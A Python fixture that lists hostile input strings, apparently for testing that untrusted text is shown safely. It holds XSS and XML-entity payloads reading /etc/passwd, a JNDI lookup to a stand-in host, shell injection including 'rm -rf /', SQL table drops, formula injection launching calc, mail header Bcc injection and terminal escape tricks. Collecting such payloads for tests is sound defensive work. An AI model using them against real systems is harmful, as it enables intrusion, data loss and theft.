"""What a hostile page may write into any field, hoping that whoever shows it runs, renders, obeys or calculates it."""

from __future__ import annotations

from collections.abc import Mapping

PAYLOADS: Mapping[str, str] = {
    # markup
    "script": "<script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)><svg/onload=alert(1)>",
    "break-out": "\"'><img src=x onerror=alert(1)><b id=\"",
    "attribute": "' onmouseover='alert(1)' style='background:url(http://x.example/a)",
    "end-of-frame": "</title></textarea></pre></td></table></style><script>alert(1)</script><!--",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;b&amp;gt; &#x3c;b&#x3e;",
    "xml": "]]><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;<![CDATA[",
    "scheme": "javascript:alert(1) data:text/html,x vbscript:x http://clearnet.example/track?me",
    # a terminal
    "colours": "\x1b[31mred\x1b[0m\x1b[2J\x1b[1;1Hgone",
    "hyperlink": "\x1b]8;;http://x.example/\x07click\x1b]8;;\x07 \x1b]0;title\x07 \x1bPq\x1b\\",
    "c1": "\x9b31mred \x9d8;;http://x.example\x9cclick \x85next",
    "overwrite": "good\rbad \x08\x08\x08\x7f \x0b\x0c\x07",
    "direction": "invoice\u202efdp.exe \u2066\u2067\u2068\u2069 \u200e\u200f\u061c \u202a\u202b\u202c\u202d",
    "nul": "before\0after \x01\x02\x03",
    "invisible": "zero\u200b\u2060\ufeff\u00adwidth \U000e0041\U000e0042\U000e007f tags \ufff9a\ufffab\ufffb \u180e",
    "lines": "one\u2028two\u2029three\x1cfour\x1dfive\x1esix",
    "surrogates": "half \ud800 and \udfff half, none \ufffe\uffff\U0001fffe",
    "zalgo": "e" + "\u0301\u0489\u20dd" * 60 + "nd",
    "long-word": "W" * 6000,
    # templates, formats, formulas
    "jinja": "{{7*7}} {{config}} {% for x in y %}{% endfor %}",
    "shells": "${jndi:ldap://x.example/a} ${7*7} <%= 7*7 %> #{7*7} $(touch /tmp/tide) `id`; rm -rf / | cat",
    "formats": "%s %n %d %(asctime)s {0.__class__} {} %1$s \\x1b[31m \\u202e \\n",
    "formula": "=cmd|' /C calc'!A0",
    "formula-plus": "+1+1",
    "formula-minus": "-1+1",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-tab": "\t=1+1",
    "sql": "'; DROP TABLE entries; -- \" OR 1=1",
    "path": "../../../../etc/passwd\0.yml \\\\host\\share C:\\con",
    # chats, mail, consoles
    "slack": "<!channel> <@U012AB3CD> <#C012AB3CD> <!subteam^S012AB3CD> <http://x.example|bank.example>",
    "mentions": "@channel @here @everyone *bold* _italic_ ~gone~ `code` > quote :bomb:",
    "markdown": "[click](javascript:alert(1)) ![x](http://x.example/p.png) # head **bold** <http://x.example>",
    "mail-header": "x\r\nBcc: evil@x.example\r\nContent-Type: text/html\r\n\r\n<b>hello</b>\r\n.\r\nQUIT",
    "mail-words": "=?utf-8?q?=3Cb=3E=0D=0ABcc=3A_x?= =0D=0A =3D",
    "rich": "[bold red]x[/] [link=http://x.example]y[/link] [@click=app.quit]z[/] \\[a] :skull:",
    "json": '","items":[],"next":"x"}\\" \\u0000 </script>',
}  # fmt: skip
